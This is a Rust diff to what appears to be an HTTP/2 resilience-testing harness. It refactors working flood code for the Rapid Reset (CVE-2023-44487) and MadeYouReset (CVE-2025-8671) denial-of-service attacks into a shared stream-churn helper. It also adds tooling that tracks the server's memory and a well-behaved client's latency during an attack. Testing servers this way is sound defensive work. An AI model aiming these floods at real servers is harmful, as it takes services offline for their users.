@@ -391,43 +391,40 @@ pub fn empty_frames(addr: SocketAddr, budget: &Budget) -> AttackReport {
 
 /// CVE-2023-44487: open a stream and reset it at once, over and over.
 pub fn rapid_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
-    let Some(mut c) = connect(addr, &[]) else {
-        return setup_failed("rapid-reset");
-    };
-    let template = request(&c, "/", true, 1);
-    flood("rapid-reset", &mut c, budget, 200, move |i| {
-        let mut b = Vec::new();
-        for j in 0..100u64 {
-            let id = (2 * (i * 100 + j) + 1) as u32;
-            let mut h = template.clone();
-            h[5..9].copy_from_slice(&id.to_be_bytes());
-            b.extend(h);
-            b.extend(frame(
-                kind::RST_STREAM,
-                0,
-                id,
-                &ErrorCode::CANCEL.0.to_be_bytes(),
-            ));
-        }
-        b
+    stream_churn("rapid-reset", addr, budget, true, |id| {
+        frame(kind::RST_STREAM, 0, id, &ErrorCode::CANCEL.0.to_be_bytes())
     })
 }
 
 /// CVE-2025-8671 (MadeYouReset): valid streams followed by a frame that obliges the server to
 /// reset them (a zero WINDOW_UPDATE increment), so the reset counts as the server's own.
 pub fn made_you_reset(addr: SocketAddr, budget: &Budget) -> AttackReport {
+    stream_churn("made-you-reset", addr, budget, false, |id| {
+        frame(kind::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes())
+    })
+}
+
+/// Opens streams 100 at a time (GET with END_STREAM or an open POST), each followed at once
+/// by `then(stream_id)`.
+fn stream_churn(
+    name: &'static str,
+    addr: SocketAddr,
+    budget: &Budget,
+    end_stream: bool,
+    then: fn(u32) -> Vec<u8>,
+) -> AttackReport {
     let Some(mut c) = connect(addr, &[]) else {
-        return setup_failed("made-you-reset");
+        return setup_failed(name);
     };
-    let template = request(&c, "/", false, 1);
-    flood("made-you-reset", &mut c, budget, 200, move |i| {
+    let template = request(&c, "/", end_stream, 1);
+    flood(name, &mut c, budget, 200, move |i| {
         let mut b = Vec::new();
         for j in 0..100u64 {
             let id = (2 * (i * 100 + j) + 1) as u32;
             let mut h = template.clone();
             h[5..9].copy_from_slice(&id.to_be_bytes());
             b.extend(h);
-            b.extend(frame(kind::WINDOW_UPDATE, 0, id, &0u32.to_be_bytes()));
+            b.extend(then(id));
         }
         b
     })
@@ -659,4 +656,81 @@ pub fn well_behaved_client(
         }
     }
     out
+}
+
+/// Resident memory of process `pid` in KiB (Linux `/proc/<pid>/status`, `VmRSS`).
+pub fn rss_kib(pid: u32) -> Option<u64> {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
+    status
+        .lines()
+        .find(|l| l.starts_with("VmRSS:"))?
+        .split_whitespace()
+        .nth(1)?
+        .parse()
+        .ok()
+}
+
+/// An attack run beside a well-behaved client, with the server's memory watched.
+#[derive(Debug, Clone)]
+pub struct Watched {
+    /// The attack's own report.
+    pub report: AttackReport,
+    /// Server RSS before the attack (KiB).
+    pub rss_before_kib: u64,
+    /// Highest server RSS seen during the attack (KiB).
+    pub rss_peak_kib: u64,
+    /// Latencies of the well-behaved client's requests during the attack (None: failed).
+    pub good_client: Vec<Option<Duration>>,
+}
+
+impl Watched {
+    /// RSS growth during the attack, in KiB.
+    pub fn rss_growth_kib(&self) -> u64 {
+        self.rss_peak_kib.saturating_sub(self.rss_before_kib)
+    }
+    /// Requests of the well-behaved client that failed.
+    pub fn good_failures(&self) -> usize {
+        self.good_client.iter().filter(|l| l.is_none()).count()
+    }
+    /// Slowest successful request of the well-behaved client.
+    pub fn good_max_latency(&self) -> Option<Duration> {
+        self.good_client.iter().flatten().max().copied()
+    }
+}
+
+/// Runs `attack` against the server process `pid` listening on `addr`, with a well-behaved
+/// client on a second connection and the server's RSS sampled every 50 ms.
+pub fn run_watched(pid: u32, addr: SocketAddr, attack: Attack, budget: &Budget) -> Watched {
+    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
+    use std::sync::Arc;
+    let rss_before_kib = rss_kib(pid).unwrap_or(0);
+    let stop = Arc::new(AtomicBool::new(false));
+    let peak = Arc::new(AtomicU64::new(rss_before_kib));
+    let sampler = {
+        let (stop, peak) = (stop.clone(), peak.clone());
+        std::thread::spawn(move || {
+            while !stop.load(Ordering::Relaxed) {
+                if let Some(r) = rss_kib(pid) {
+                    peak.fetch_max(r, Ordering::Relaxed);
+                }
+                std::thread::sleep(Duration::from_millis(50));
+            }
+        })
+    };
+    let good = {
+        let stop = stop.clone();
+        std::thread::spawn(move || well_behaved_client(addr, &stop))
+    };
+    let report = attack(addr, budget);
+    // Let the server settle, then stop the helpers.
+    std::thread::sleep(Duration::from_millis(200));
+    stop.store(true, Ordering::Relaxed);
+    let _ = sampler.join();
+    let good_client = good.join().unwrap_or_default();
+    Watched {
+        report,
+        rss_before_kib,
+        rss_peak_kib: peak.load(Ordering::Relaxed),
+        good_client,
+    }
 }
